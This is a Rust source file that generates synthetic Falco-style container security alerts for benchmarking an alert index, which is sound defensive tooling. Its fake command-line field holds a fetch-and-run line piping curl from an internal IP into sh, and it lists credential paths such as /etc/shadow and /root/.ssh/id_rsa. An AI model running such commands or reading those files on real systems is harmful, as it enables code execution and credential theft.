//! The generated alerts: Falco-style syscall alerts with realistic field spreads.

use palisade_proto::prost_types::Timestamp;
use palisade_proto::v1::{Alert, Priority};

/// Tenant of every generated alert.
pub const TENANT: &str = "bench";

const RULES: &[(&str, &str)] = &[
    (
        "Terminal shell in container",
        "A shell was spawned in a container with an attached terminal",
    ),
    (
        "Read sensitive file untrusted",
        "Sensitive file /etc/shadow opened for reading by non-trusted program",
    ),
    (
        "Contact K8S API Server From Container",
        "Unexpected connection to K8s API Server from container",
    ),
    (
        "Drop and execute new binary in container",
        "Executing binary not part of base image",
    ),
    ("Write below etc", "File below /etc opened for writing"),
    (
        "Launch Privileged Container",
        "Privileged container started",
    ),
    (
        "Outbound Connection to C2 Servers",
        "Outbound connection to known command and control server",
    ),
    ("Clear Log Activities", "Log files were tampered"),
];
const NAMESPACES: &[&str] = &[
    "prod",
    "staging",
    "kube-system",
    "payments",
    "monitoring",
    "dev",
    "ci",
    "ingress",
    "data",
    "auth",
];
const PROCESSES: &[&str] = &[
    "bash", "sh", "cat", "curl", "python3", "nginx", "java", "node",
];
const SENSITIVE_FILES: &[&str] = &[
    "/etc/shadow",
    "/etc/passwd",
    "/root/.ssh/id_rsa",
    "/var/run/secrets/token",
];

/// Alert number `seq`: the same for every engine and every run.
pub fn realistic_alert(seq: usize) -> Alert {
    let mix = seq.wrapping_mul(2_654_435_761);
    let (rule, text) = RULES[mix % RULES.len()];
    let namespace = NAMESPACES[(mix >> 7) % NAMESPACES.len()];
    let process = PROCESSES[(mix >> 13) % PROCESSES.len()];
    let pod = format!("{namespace}-web-{:05x}", (mix >> 3) % 4093);
    let image = format!("registry.example.com/team-{}/api", (mix >> 5) % 17);
    let fields = [
        ("proc.name", process.to_string()),
        (
            "proc.cmdline",
            format!(
                "{process} -c 'curl http://10.0.{}.{}/x | sh'",
                seq % 255,
                seq % 251
            ),
        ),
        (
            "user.name",
            ["root", "www-data", "app"][(mix >> 9) % 3].to_string(),
        ),
        ("container.id", format!("{:012x}", mix & 0xffff_ffff_ffff)),
        ("container.image.repository", image.clone()),
        ("container.image.tag", format!("1.{}.{}", seq % 7, seq % 31)),
        ("k8s.ns.name", namespace.to_string()),
        ("k8s.pod.name", pod.clone()),
        (
            "fd.name",
            SENSITIVE_FILES[(mix >> 11) % SENSITIVE_FILES.len()].to_string(),
        ),
    ];
    let priority = [
        Priority::Warning,
        Priority::Notice,
        Priority::Critical,
        Priority::Error,
        Priority::Informational,
    ][(mix >> 17) % 5];
    Alert {
        id: format!("{seq:016x}"),
        tenant_id: TENANT.into(),
        rule: rule.into(),
        source: "syscall".into(),
        priority: priority as i32,
        output: format!(
            "{text} (user=root command={process} pod={pod} ns={namespace} image={image} seq={seq})"
        ),
        output_fields: fields
            .into_iter()
            .map(|(key, value)| (key.to_string(), value))
            .collect(),
        tags: vec!["container".into(), "mitre_execution".into(), "T1059".into()],
        // Ten alerts a second, 100 ms apart: times are distinct at the index's microsecond
        // precision, so "newest N" has one right answer in both engines.
        time: Some(Timestamp {
            seconds: 1_790_000_000 + (seq / 10) as i64,
            nanos: (seq % 10) as i32 * 100_000_000,
        }),
        hostname: format!("node-{}", seq % 50),
        ..Default::default()
    }
}

/// The alert's time in microseconds, the precision of the index.
pub fn time_micros(alert: &Alert) -> i64 {
    alert.time.as_ref().map_or(0, |time| {
        time.seconds * 1_000_000 + i64::from(time.nanos) / 1_000
    })
}
